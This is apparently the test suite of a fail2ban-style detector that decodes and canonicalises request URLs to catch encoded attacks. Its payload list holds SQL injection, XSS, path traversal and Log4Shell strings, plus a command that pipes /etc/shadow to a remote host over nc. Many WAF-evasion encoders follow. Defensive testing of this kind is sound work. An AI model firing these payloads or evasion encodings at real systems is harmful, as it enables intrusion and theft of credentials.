import base64
import html
import re
import time
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fail2ban_ai.canonical import LIMIT, canonical, canonical_many, mask, path_key, place_of, unpadded

PAYLOADS = [
    "' or 1=1 -- x",
    "' union select user(),2 from `users`#",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 192.0.2.1 99",
    "${jndi:ldap://203.0.113.9/a}",
]


def percent_all(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())


def overlong(text):
    return "".join(f"%{0xC0 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3F:02x}" for c in text)


def overlong_three(text):
    return "".join(f"%e0%{0x80 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3F:02x}" for c in text)


def full_width(text):
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def spaces_as(stand_in):
    return lambda text: quote(text, safe="").replace("%20", stand_in)


ENCODERS = {
    "plain": lambda t: t,
    "percent": lambda t: quote(t, safe=""),
    "form": quote_plus,
    "every byte": percent_all,
    "double": lambda t: percent_all(percent_all(t)),
    "triple": lambda t: quote(quote(quote(t, safe=""), safe=""), safe=""),
    "form, then percent": lambda t: quote(quote_plus(t), safe=""),
    "overlong": overlong,
    "overlong of three bytes": overlong_three,
    "second byte no continuation": lambda t: "".join(f"%{0xC0 | ord(c) >> 6:02x}%{ord(c) & 0x3F:02x}" for c in t),
    "%u": lambda t: "".join(f"%u{ord(c):04X}" for c in t),
    "%u full width": lambda t: "".join(f"%u{ord(c):04x}" for c in full_width(t)),
    "full width": lambda t: quote(full_width(t), safe=""),
    "entities, named": lambda t: quote(html.escape(t), safe=""),
    "entities, decimal": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "entities, hex, no semicolon": lambda t: "".join(f"&#x{ord(c):08x}" if c in "'<>\"" else quote(c) for c in t),
    "\\x": lambda t: "".join(f"\\x{ord(c):02x}" for c in t),
    "\\u": lambda t: "".join(f"\\u{ord(c):04X}" for c in t),
    "\\u{}": lambda t: "".join(f"\\u{{{ord(c):x}}}" for c in t),
    "octal": lambda t: "".join(f"\\{ord(c):03o}" for c in t),
    "base64": lambda t: quote(base64.b64encode(t.encode()).decode(), safe=""),
    "base64 for URLs": lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
    "\\x of percent": lambda t: "".join(f"\\x{ord(c):02X}" for c in quote(t, safe="")),
    "upper case": lambda t: quote(t.upper(), safe=""),
    "comments for spaces": spaces_as("/**/"),
    "comments with text": spaces_as("%2f%2azz%2a/"),
    "line feeds for spaces": spaces_as("%0a"),
    "tabs for spaces": spaces_as("%09%0b"),
    "non-breaking spaces": spaces_as("%c2%a0"),
    "latin-1 non-breaking spaces": spaces_as("%a0"),
    "zero-width between": lambda t: "%e2%80%8b".join(quote(c, safe="") for c in t),
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("encoder", ENCODERS)
def test_one_payload_in_any_encoding_is_one_text(encoder, payload):
    assert canonical("/item?id=" + ENCODERS[encoder](payload)).text == "/item?id=" + payload


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("/?id=1/*!50000UnIoN*//*!sElEcT*/1", "/?id=1 union select 1"),
        ("/a%00.php", "/a␀.php"),
        ("/?x=%0d%0aSet-Cookie:a", "/?x=␍␊set-cookie:a"),
        ("/..%c0%af..%c1%9cwindows", "/../..\\windows"),
        ("/caf%e9", "/café"),
        ("/%d0%bf%d1%80%D0%B8", "/при"),
        ("/?q=%ud83d%ude00", "/?q=😀"),
        ("/?q=o%E2%80%99reilly", "/?q=o'reilly"),
        ("/?sum=1%2B1", "/?sum=1+1"),
        ("/c++/x?q=c++", "/c++/x?q=c"),
        ("/?a=1&lt=5&copy=2", "/?a=1&lt=5&copy=2"),
        ("/?a=100%&b=%zz", "/?a=100%&b=%zz"),
        ("/a//b/../c/./d", "/a//b/../c/./d"),
        ("/?token=dGhpc2lzYXRva2Vu&x=1", "/?token=dghpc2lzyxrva2vu&x=1"),  # base64 of one word
        ("/?token=h1nkQ8s0vTeUO3k9wYc2", "/?token=h1nkq8s0vteuo3k9wyc2"),
        ("/?d=aGVsbG8gd29ybGQ%3D", "/?d=hello world"),
        ("/?x=/* never closed", "/?x=/* never closed"),
        ("/\ud800x", "/\ufffdx"),
        ("", ""),
    ],
)
def test_each_form(raw, text):
    assert canonical(raw).text == text


@pytest.mark.parametrize(
    ("raw", "layers"),
    [
        ("/index.php?a=1&b=2", 0),
        ("/поиск", 0),  # some servers log raw UTF-8
        ("/?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82+%E4%B8%96", 1),
        ("/?next=%2Fa%3Fb%3Dc", 1),
        ("/?next=%252Fa", 2),
        ("/?x=%25252527", 4),
        ("/?x=%2526%2523x27%253b", 3),
    ],
)
def test_layers_count_rounds_of_decoding(raw, layers):
    assert canonical(raw).layers == layers


def test_changed_is_the_share_of_the_length_taken_away():
    assert canonical("/abc").changed == 0
    assert canonical("%41%42%43%44").changed == pytest.approx(2 / 3, abs=1e-4)


def test_long_texts_keep_head_and_tail():
    text = canonical("/?start=%27" + "a" * 64000 + "%27end").text
    assert len(text) == LIMIT
    assert text.startswith("/?start='aaa")
    assert text.endswith("aaa'end")


ANY = st.text(st.characters() | st.sampled_from("%%%%\\&#x+/*!u0123456789abcdef;\0\r\n\ud800\u0301"), max_size=600)


@given(ANY)
def test_anything_gives_a_bounded_printable_text(text):
    made = canonical(text)
    assert len(made.text) <= LIMIT
    made.text.encode()
    assert not re.search(r"[\x00-\x1f\x7f]", made.text)
    assert "  " not in made.text
    assert made.text == made.text.strip()
    assert 0 <= made.changed <= 1
    assert 0 <= made.layers <= 5
    assert canonical_many([text, "/x", text]) == [made, canonical("/x"), made]
    for key in (mask(text), path_key(text)):
        assert not re.search(r"[1-9]", key)


@given(st.binary(max_size=300))
def test_any_bytes_percent_encoded(raw):
    canonical("/?" + quote(raw)).text.encode()


# Without a "b": what was written %2b is a plus, and a plus is a space.
@given(st.text(st.sampled_from("%27%3c&lt;/*!\\x 'acé☃ﬀ"), max_size=60))
def test_a_text_without_escapes_left_is_its_own_canonical_text(text):
    once = canonical(text)
    assert canonical(once.text).text == once.text


@given(st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=60))
def test_the_quick_path_agrees_with_the_slow_one(text):
    slow = canonical(text + "\u00ad")  # the soft hyphen is dropped, but takes the text off the quick path
    assert canonical(text)[:2] == slow[:2]


ADVERSARIAL = [
    "%25", "%25a", "%2525252525a", "&#", "&#1;", "&amp;", "&aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "/*", "/**/", "/*!",
    "=QUFBQUFBQUFB", "=QUFB IEFB", "\\101", "%c0", "%e0%80a", "\\x", "\\u{", "+", "\u0315\u0300", "\ufdfa", "1a", "0x", "deadbeef-", " ", "\0", "?", "://",
]  # fmt: skip


@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_time_is_linear_on_hostile_input(unit):
    def seconds(repeats):
        text = "/?" + unit * repeats
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            canonical(text), mask(text), path_key(text)
            best = min(best, time.process_time() - start)
        return best

    # Many times what it takes here, and far below what a quadratic pass over 400 KB would take.
    assert seconds(400_000 // len(unit)) < 0.5


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("/item/1234", "/item/0"),
        ("/a/550e8400-e29b-41d4-a716-446655440000/b", "/a/<id>/b"),
        ("/assets/app.3f2a9c0d1e5b7788.js", "/assets/app.<id>.js"),
        ("/t/eyj0exaioijkv1qilcjhbgci0ij", "/t/<id>"),
        ("select 0x716b7a7871", "select 0x<id>"),
        ("/administrator/components/", "/administrator/components/"),
        ("/2019/internationalization-of-things", "/0/internationalization-of-things"),
        ("a" * 64, "<id>"),
    ],
)
def test_mask_hides_what_merely_varies(text, masked):
    assert mask(text) == masked
    assert mask(masked) == masked


@pytest.mark.parametrize(
    ("target", "key"),
    [
        ("/Item/1234?b=2&a=1", "/item/0?a&b"),
        ("/item/99?a=x&b=y&a=z", "/item/0?a&b"),
        ("/%69tem/7", "/item/0"),
        ("/x?", "/x"),
        ("/x?&=1", "/x"),
        ("/?%61%5B3%5D=1", "/?a[0]"),
        ("http://192.0.2.7/proxy?u=1", "http://<host>/proxy?u"),
        ("*", "*"),
        ("/Item/1234?b=2&a=1'--", "/item/0?a&b='"),
        ("/item/9?a=%2527%28&b", "/item/0?a&b='("),
        ("/view?file=../../../etc/passwd", "/view?file=../"),
        ("/login?next=%2Fshop%2F", "/login?next=/"),
        ("/?q=a+b.c,d-e_2026:00", "/?q"),
        ("/?%27", "/?'='"),
        ("//shop//%2f/a.css?b=//", "/shop/a.css?b=/"),
    ],
)
def test_path_key(target, key):
    assert path_key(target) == key


WORDS = "&".join(f"k{i % 9}=some+words+of+{i}" for i in range(50))  # a thousand characters


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("encoder", ["form", "every byte", "double", "base64"])
def test_a_payload_in_the_middle_of_a_long_query_makes_an_odd_place(encoder, payload):
    plain = place_of(f"/item?{WORDS}&id=7&{WORDS}")
    assert not plain.odd, "words of any length are plain"
    found = place_of(f"/item?{WORDS}&id={ENCODERS[encoder](payload)}&{WORDS}")
    assert found.odd
    assert found.key != plain.key


def test_what_is_too_long_to_be_read_is_not_taken_for_plain():
    assert not place_of("/item?q=" + "tea+" * 1400).odd
    assert place_of("/item?q=" + "tea+" * 2000 + "'" + "tea+" * 2000).odd
    grown = percent_all("\ufdfa")  # eighteen characters in its plain form
    assert place_of("/item?q=" + grown * 300 + "%27" + grown * 300).odd


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("/shell.php?a=1&b=2&c=3", "/shell.php?a=1&b=2&c=3"),
        ("/.env?" + "&".join(f"{c}=some news" for c in "abcdefgh"), "/.env?a=some news&b=some news&h=some news"),
        ("/?a=1&b=2&c=3&q=' or 1=1&d=4&e=5&f=6", "/?a=1&b=2&q=' or 1=1&f=6"),
        ("/?" + "x&" * 8, "/?" + "x&" * 8),
    ],
)  # fmt: skip
def test_plain_parameters_are_no_hiding_place(text, left):
    assert unpadded(text) == left


@given(ANY)
def test_what_is_left_of_a_text_stood_in_it(text):
    left = unpadded(text)
    assert len(left) <= len(text)
    assert unpadded(left) == left
    assert set(left.partition("?")[2].split("&")) <= set(text.partition("?")[2].split("&"))
